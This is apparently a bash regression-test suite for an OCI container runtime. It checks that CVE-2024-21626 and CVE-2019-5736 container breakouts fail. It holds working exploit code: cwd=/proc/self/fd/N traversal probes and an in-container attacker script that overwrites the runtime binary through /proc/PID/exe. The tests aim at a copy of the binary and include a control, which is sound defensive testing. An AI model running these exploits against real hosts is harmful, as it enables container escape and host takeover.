#!/usr/bin/env bash
# Regression tests for two container-breakout CVEs of OCI runtimes.
#
# CVE-2024-21626 ("Leaky Vessels"): runc leaked a host directory fd into the
# container's init; process.cwd (or exec --cwd) = /proc/self/fd/N then left
# the process with a cwd outside its root, from which ../../.. reaches the
# host.  We check every likely N: either the runtime refuses, or the process
# cannot read a marker file we put in the host's /tmp.  And the process must
# start with no fd beyond 0, 1, 2.
#
# CVE-2019-5736: a container process that executes /proc/self/exe while that
# link still names the host runtime binary (the init before its execve, or an
# `exec` child) runs the host binary inside the container; another container
# process grabs an fd to it via /proc/PID/exe and, once it stops running
# (ETXTBSY ends), reopens it for writing through /proc/self/fd/N and
# overwrites the host binary.  What proves a mitigation is that this attack,
# carried out for real, fails to change the binary: printing the output of
# `/proc/self/exe --version` inside the container proves nothing (a sealed
# memfd copy prints the same version).  We attack a *copy* of the runtime,
# used as $RUNTIME for these tests, so a vulnerable runtime only destroys
# the copy.  A control run against a deliberately writable binary shows the
# probe can detect a successful overwrite at all.
# Run alone: RUNTIME=/usr/sbin/runc ./test/integration/test_cve.sh
. "$(dirname "$0")/lib.sh"
require_runtime

t_cwd_proc_self_fd() {
	local marker secret n b leaked=
	marker=$(mktemp /tmp/husk-cve-marker-XXXXXX)
	defer "rm -f '$marker'"
	secret=host-secret-$RANDOM$RANDOM
	echo "$secret" >"$marker"
	b=$(new_bundle)
	for n in 3 4 5 6 7 8 9 10; do
		BUNDLE=$b spec_set 'c["process"]["cwd"] = "/proc/self/fd/" + A[0]' "$n"
		BUNDLE=$b spec_args sh -c 'cat ../../../../../../../..'"$marker"'; cat /proc/self/cwd/../../../../../../../..'"$marker"'; for f in /proc/self/fd/*; do cat "$f/../../../../../../../..'"$marker"'"; done; ls /proc/self/cwd/../../../../../../../../tmp'
		BUNDLE=$b run_ctr
		case "$OUT" in
		*"$secret"* | *"${marker##*/}"*) leaked="$leaked $n" ;;
		esac
		diag "cwd /proc/self/fd/$n: rc $RC"
	done
	assert_eq "CVE-2024-21626: cwd=/proc/self/fd/N (N=3..10) never reaches the host" "" "$leaked"
}

t_exec_cwd_proc_self_fd() {
	local marker secret n b out leaked=
	marker=$(mktemp /tmp/husk-cve-marker-XXXXXX)
	defer "rm -f '$marker'"
	secret=host-secret-$RANDOM$RANDOM
	echo "$secret" >"$marker"
	b=$(new_bundle)
	BUNDLE=$b spec_args sleep 1000
	BUNDLE=$b create_ctr
	start_ctr "$CID"
	for n in 3 4 5 6 7 8 9 10; do
		out=$(rt exec --cwd "/proc/self/fd/$n" "$CID" sh -c 'cat ../../../../../../../..'"$marker"'; cat /proc/self/cwd/../../../../../../../..'"$marker" </dev/null 2>/dev/null)
		case "$out" in *"$secret"*) leaked="$leaked $n" ;; esac
	done
	assert_eq "CVE-2024-21626: exec --cwd /proc/self/fd/N (N=3..10) never reaches the host" "" "$leaked"
}

t_no_leaked_fds() {
	local out b
	b=$(new_bundle)
	# ls opens the directory it lists, so its own fd 3 is expected.
	BUNDLE=$b spec_args ls /proc/self/fd
	BUNDLE=$b run_ctr
	assert_eq "the container's process starts with only fds 0 1 2" "0 1 2 3" "$(printf '%s' "$OUT" | tr '\n' ' ' | sed 's/ $//')"
	BUNDLE=$b spec_args sleep 1000
	BUNDLE=$b create_ctr
	start_ctr "$CID"
	out=$(rt exec "$CID" ls /proc/self/fd </dev/null 2>&1)
	assert_eq "an exec'd process starts with only fds 0 1 2" "0 1 2 3" "$(printf '%s' "$out" | tr '\n' ' ' | sed 's/ $//')"
	out=$(rt exec "$CID" sh -c 'ls -l /proc/1/fd | grep -c -- "->"' </dev/null 2>&1)
	assert_eq "the container's init holds only fds 0 1 2" 3 "$out"
}

# The attacker, run inside the container (busybox sh).  It waits for a
# process whose command line mentions "hfifo" (the runtime binary, blocked
# on the fifos), holds its /proc/PID/exe open, releases it, and then tries
# for 5 s to write through the held fd.  Findings go to /result.  It gives
# up after about 5 s without a target.
write_attacker() { # PATH
	cat >"$1" <<'EOF'
#!/bin/sh
target=
i=0
# (The pattern is written h[f]ifo so grep does not find itself.)
while [ -z "$target" ] && [ $i -lt 150 ]; do
	target=$(grep -ls 'h[f]ifo' /proc/[0-9]*/cmdline | head -n 1 | cut -d/ -f3)
	[ -z "$target" ] && sleep 0.03
	i=$((i + 1))
done
if [ -z "$target" ]; then
	echo no-target >>/result
	echo done >>/result
	exit 0
fi
echo "target $target exe=$(readlink "/proc/$target/exe")" >>/result
(
	exec 3<"/proc/$target/exe"
	echo opened >>/result
	# The target blocks opening /hfifo to write (--log) or config.json to
	# read; give each side what it waits for.
	timeout 3 cat /hfifo >/dev/null 2>&1 &
	timeout 3 sh -c 'echo "{}" >/hb/config.json' 2>/dev/null &
	n=0
	while [ $n -lt 100 ]; do
		if (printf '#!/bin/sh\necho PWNED\n' >/proc/self/fd/3) 2>/dev/null; then
			echo WROTE >>/result
			exit 0
		fi
		n=$((n + 1))
		sleep 0.05
	done
	echo "write-refused: $( (printf x >/proc/self/fd/3) 2>&1)" >>/result
)
[ $? -ne 0 ] && echo "open-refused" >>/result
echo done >>/result
EOF
	chmod 0755 "$1"
}

# Copies BIN's shared libraries and loader into ROOTFS.  Without them the
# dynamically linked runtime binary cannot start inside a busybox rootfs
# (execve fails with ENOENT for the missing loader), and the attack below
# would fail for a reason that has nothing to do with the runtime.
copy_libs_of() { # BIN ROOTFS
	local lib
	for lib in $(ldd "$1" 2>/dev/null | grep -oE '/[^ ]+'); do
		[ -e "$lib" ] || continue
		mkdir -p "$2$(dirname "$lib")"
		cp -L "$lib" "$2$lib"
	done
}

# A bundle for the attack: fifos the target blocks on, the attacker script,
# and the runtime's libraries.
attack_bundle() {
	local b
	b=$(new_bundle)
	copy_libs_of "$RUNTIME" "$b/rootfs"
	mkfifo "$b/rootfs/hfifo"
	mkdir -p "$b/rootfs/hb" "$b/rootfs/tmp/hroot"
	mkfifo "$b/rootfs/hb/config.json"
	write_attacker "$b/rootfs/attack.sh"
	echo "$b"
}

# Waits for the attacker to finish and reports what it saw.
attack_result() { # BUNDLE
	wait_file "$1/rootfs/result" 20
	local i=0
	while [ $i -lt 200 ] && ! grep -qx "done" "$1/rootfs/result" 2>/dev/null; do
		sleep 0.05
		i=$((i + 1))
	done
	tr '\n' ' ' <"$1/rootfs/result" 2>/dev/null
}

# Starts the attacker, then the container.  The attacker goes first where the
# runtime allows exec into a created container (runc does), so even a target
# that does not block is likely seen; else right after start.
attack_then_start() { # ID
	if rt exec --detach "$1" sh /attack.sh </dev/null >/dev/null 2>"$WORK/attack.err"; then
		start_ctr "$1"
	else
		start_ctr "$1"
		rt exec --detach "$1" sh /attack.sh </dev/null >/dev/null 2>"$WORK/attack.err"
	fi
}

# The runtime binary as the target args, with "hfifo" for the attacker.
TARGET_ARGS=(/proc/self/exe --root /tmp/hroot --log /hfifo run --bundle /hb hcve)

check_attack() { # NAME COPY SHA-BEFORE RESULT
	local name=$1 copy=$2 before=$3 result=$4
	diag "$name: attacker saw: $result"
	case $result in
	*no-target*)
		not_ok "$name: the probe ran" "the runtime binary was never seen running in the container"
		return
		;;
	esac
	assert_eq "$name: the host runtime binary is unchanged" "$before" "$(sha256sum <"$copy")"
	assert_not_contains "$name: writing the runtime binary through /proc/PID/exe failed" "$result" WROTE
}

# Init path: the container's args[0] is /proc/self/exe.
# Sets b and before, and RUNTIME to COPY; creates the container whose
# process is the runtime binary (as /proc/self/exe) in a bundle the
# attacker is in.  No pid namespace, so the attacker (an exec'd process)
# outlives the init it attacks.
create_init_target() { # COPY
	before=$(sha256sum <"$1")
	RUNTIME=$1
	b=$(attack_bundle)
	BUNDLE=$b spec_del_ns pid
	BUNDLE=$b spec_args "${TARGET_ARGS[@]}"
	BUNDLE=$b create_ctr
}

t_cve_2019_5736_init() {
	local copy before b result
	copy=$WORK/runtime-copy-init
	cp "$RUNTIME" "$copy"
	create_init_target "$copy"
	if [ "$RC" -ne 0 ]; then
		diag "create refused /proc/self/exe as the process: $ERR"
		assert_eq "CVE-2019-5736 init path: the host runtime binary is unchanged" "$before" "$(sha256sum <"$copy")"
		return
	fi
	attack_then_start "$CID"
	result=$(attack_result "$b")
	if [ -z "$result" ] || [ -z "${result##*no-target*}" ]; then
		diag "the target never ran: $(tail -n 2 "$WORK/$CID.err" "$WORK/attack.err" | tr '\n' ' ')"
		assert_eq "CVE-2019-5736 init path: /proc/self/exe never ran; the binary is unchanged" "$before" "$(sha256sum <"$copy")"
		return
	fi
	check_attack "CVE-2019-5736 init path" "$copy" "$before" "$result"
}

# Exec path: `exec` runs /proc/self/exe; the attacker is the container's init.
t_cve_2019_5736_exec() {
	local copy=$WORK/runtime-copy-exec
	cp "$RUNTIME" "$copy"
	exec_attack "CVE-2019-5736 exec path" "$copy"
}

# The exec path again with the runtime bind-mounted read-only (no memfd
# copy for husk): the write must fail all the same.
t_cve_2019_5736_ro_binary_exec() {
	local copy
	copy=$(ro_runtime_copy runtime-copy-ro-exec) || {
		not_ok "CVE-2019-5736 read-only binary, exec path: bind-mount a read-only copy" "mount failed"
		return
	}
	exec_attack "CVE-2019-5736 read-only binary, exec path" "$copy"
}

exec_attack() { # NAME COPY
	local name=$1 copy=$2 before b result
	before=$(sha256sum <"$copy")
	RUNTIME=$copy
	b=$(attack_bundle)
	BUNDLE=$b spec_args sh -c 'sh /attack.sh; sleep 1000'
	BUNDLE=$b create_ctr
	assert_rc "$name: create succeeds" 0 "$RC" || return
	start_ctr "$CID"
	# Foreground (in the background here) so its exit status tells a
	# refused exec from a target the attacker could not find.
	rt exec "$CID" "${TARGET_ARGS[@]}" </dev/null >/dev/null 2>"$WORK/exec.err" &
	local exec_pid=$! exec_rc
	result=$(attack_result "$b")
	wait "$exec_pid"
	exec_rc=$?
	if [ -z "${result##*no-target*}" ] && [ "$exec_rc" -ne 0 ]; then
		diag "exec refused /proc/self/exe (rc $exec_rc): $(tail -n 1 "$WORK/exec.err")"
		assert_eq "$name: exec of /proc/self/exe refused; the binary is unchanged" "$before" "$(sha256sum <"$copy")"
		return
	fi
	check_attack "$name" "$copy" "$before" "$result"
}

# The runtime binary bind-mounted read-only over itself: husk then runs it
# without the memfd copy (runtime/cloned_binary.c), so the target's exe is
# the host file itself, and the write the attack tries must still fail
# (EROFS through the read-only mount).  runc 1.1 and crun copy anyway.
ro_runtime_copy() { # NAME -> path of a read-only bind-mounted copy
	local copy=$WORK/$1
	cp "$RUNTIME" "$copy"
	mount --bind "$copy" "$copy" && mount -o remount,bind,ro "$copy" || return 1
	defer "umount -l '$copy'"
	echo "$copy"
}

init_exe() { # ID -> the created container's init's /proc/PID/exe
	readlink "/proc/$(rt state "$1" | sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')/exe"
}

t_cve_2019_5736_ro_binary() {
	local copy before b result
	copy=$(ro_runtime_copy runtime-copy-ro) || {
		not_ok "CVE-2019-5736 read-only binary: bind-mount a read-only copy" "mount failed"
		return
	}
	create_init_target "$copy"
	assert_rc "CVE-2019-5736 read-only binary: create succeeds" 0 "$RC" || return
	if runtime_is_husk; then
		# Before start the init is still husk's code: no memfd copy.
		assert_eq "CVE-2019-5736 read-only binary: the init runs the host file, not a memfd copy" \
			"$copy" "$(init_exe "$CID")"
	fi
	attack_then_start "$CID"
	result=$(attack_result "$b")
	check_attack "CVE-2019-5736 read-only binary, init path" "$copy" "$before" "$result"
	case $result in
	*write-refused*"Read-only file system"* | *open-refused*) ok "CVE-2019-5736 read-only binary: the reopen for writing is refused by the read-only mount" ;;
	*) runtime_is_husk && not_ok "CVE-2019-5736 read-only binary: the reopen for writing is refused by the read-only mount" "result: $result" ;;
	esac
}

# The two ways husk seals a writable binary (runtime/cloned_binary.c): a
# private read-only overlay of its directory where it can make one (the
# init's exe then names the file at that mount's root), else a sealed memfd
# copy (here: a directory whose name has a `:`, which overlayfs's lowerdir
# cannot take).  Each must keep the attack out.
t_cve_2019_5736_seal_kinds() {
	runtime_is_husk || return 0
	local copy before b husk=$RUNTIME
	mkdir -p "$WORK/plain" "$WORK/has:colon" "$WORK/covered"
	copy=$WORK/plain/husk
	cp "$RUNTIME" "$copy"
	create_init_target "$copy"
	assert_rc "seal kinds: create from a writable binary" 0 "$RC" || return
	assert_eq "a writable husk re-executes through its private read-only overlay" /husk "$(init_exe "$CID")"
	rt delete --force "$CID" >/dev/null 2>&1
	copy="$WORK/has:colon/husk"
	cp "$RUNTIME" "$copy"
	create_init_target "$copy"
	assert_rc "seal kinds: create from a binary in a dir overlayfs cannot take" 0 "$RC" || return
	assert_eq "there it re-executes from a sealed memfd copy" "/memfd:husk (deleted)" "$(init_exe "$CID")"
	rt delete --force "$CID" >/dev/null 2>&1
	exec_attack "CVE-2019-5736 exec path, memfd copy" "$copy"
	# husk bind-mounted over another file (an upgrade that mounts the new
	# binary over the old): overlayfs reads the directory underneath the
	# mount, so the overlay holds the old file, here busybox.  The re-exec
	# must see that it is not the running binary and copy the running one.
	copy=$WORK/covered/husk
	cp /bin/busybox "$copy"
	mount --bind "$husk" "$copy" || {
		not_ok "seal kinds: bind-mount husk over another file" "mount failed"
		return
	}
	defer "umount -l '$copy'"
	create_init_target "$copy"
	assert_rc "seal kinds: create from a husk mounted over another file" 0 "$RC" || {
		diag "stderr: $ERR"
		return
	}
	assert_eq "there it re-executes from a sealed memfd copy of the running binary" "/memfd:husk (deleted)" \
		"$(init_exe "$CID")"
	rt delete --force "$CID" >/dev/null 2>&1
}

# Control: the same probe against a host binary bind-mounted writable into
# the container must succeed in overwriting it, or the checks above prove
# nothing.
t_cve_2019_5736_control() {
	local victim before b result
	victim=$WORK/victim
	cp /bin/busybox "$victim"
	before=$(sha256sum <"$victim")
	b=$(attack_bundle)
	BUNDLE=$b spec_del_ns pid
	# Named sh, since busybox picks its applet from argv[0].
	BUNDLE=$b spec_mount /victim/sh bind "$victim" bind
	BUNDLE=$b spec_args /victim/sh -c 'read x </hb/config.json; : hfifo'
	BUNDLE=$b create_ctr
	attack_then_start "$CID"
	result=$(attack_result "$b")
	diag "control: attacker saw: $result"
	if [ "$before" != "$(sha256sum <"$victim")" ] && [ -z "${result##*WROTE*}" ]; then
		ok "CVE-2019-5736 control: the probe overwrites a writable host binary"
	else
		not_ok "CVE-2019-5736 control: the probe overwrites a writable host binary" "result: $result"
	fi
}

for t in t_cwd_proc_self_fd t_exec_cwd_proc_self_fd t_no_leaked_fds t_cve_2019_5736_control \
	t_cve_2019_5736_init t_cve_2019_5736_exec t_cve_2019_5736_ro_binary t_cve_2019_5736_ro_binary_exec \
	t_cve_2019_5736_seal_kinds; do
	run_test "$t"
done
finish
